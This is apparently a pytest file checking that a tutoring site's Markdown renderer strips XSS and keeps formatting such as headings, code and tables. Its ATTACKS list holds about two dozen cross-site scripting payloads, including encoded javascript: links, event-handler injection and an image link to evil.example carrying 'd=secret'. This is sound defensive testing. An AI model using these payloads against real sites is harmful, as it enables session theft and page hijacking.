"""Markdown becomes useful HTML, and no attack comes through."""

import re
from collections.abc import Callable

import pytest

from web.tutor.markdown import TAGS, render, statement

ATTACKS = [
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "[x](vbscript:x)",
    "<img src=x onerror=alert(1)>",
    "![i](https://evil.example/x.png?d=secret)",
    "<svg/onload=alert(1)>",
    "```html\n<script>1</script>\n```",
    '```x" onclick="alert(1)\ny\n```',
    "<a href='https://a' onclick=1>k</a>",
    "[a](https://evil.example 'onmouseover=1')",
    "`<b onclick=1>`",
    "<style>*{display:none}</style>",
    "[x](//evil.example)",
    "[x](/v1/hints)",
    "[x](http://evil.example)",
    "<iframe src=https://evil.example></iframe>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "| <img src=x> |\n|--|\n| <b>1 |",
    "<!-- --><form action=x><input>",
    "[r]: javascript:alert(1)\n\n[r]",
    "<math><mtext><script>1</script>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_through(attack: str) -> None:
    html = render(attack)

    tags = re.findall(r"<\s*/?([a-zA-Z0-9]+)([^>]*)>", html)
    assert {name for name, _ in tags} <= TAGS
    for _, attributes in tags:
        assert not re.search(r"\bon\w+\s*=|style=|src=", re.sub(r'"[^"]*"', '""', attributes))
    assert all(link.startswith("https://") for link in re.findall(r'href="([^"]*)"', html))


def test_what_hints_use_is_kept() -> None:
    html = render("### 반복\n\n`n - 1` **굵게** ~~x~~\n둘째 줄\n\n3. a\n\n| a |\n|--|\n| b |")

    for part in (
        "<h3>", "<code>n - 1</code>", "<strong>", "<s>", "<br>", '<ol start="3">', "<td>b</td>",
    ):  # fmt: skip
        assert part in html


def test_links_to_https_say_nothing_of_where_they_come_from() -> None:
    html = render("[docs](https://docs.python.org)")

    assert 'href="https://docs.python.org"' in html
    assert 'rel="noopener nofollow ugc"' in html


def test_half_a_surrogate_pair_is_no_error() -> None:
    assert render("a\ud800b") == "<p>a?b</p>\n"


@pytest.mark.parametrize("show", [render, statement])
def test_every_heading_stays_one_below_those_of_the_page(show: Callable[[str], str]) -> None:
    for level in range(1, 7):
        tag = "h3" if level < 4 else "h4"
        shown = show(f"{'#' * level} Input\n\nOne line.")
        assert shown == f"<{tag}>Input</{tag}>\n<p>One line.</p>\n"
    assert show("Input\n=====") == "<h3>Input</h3>\n"
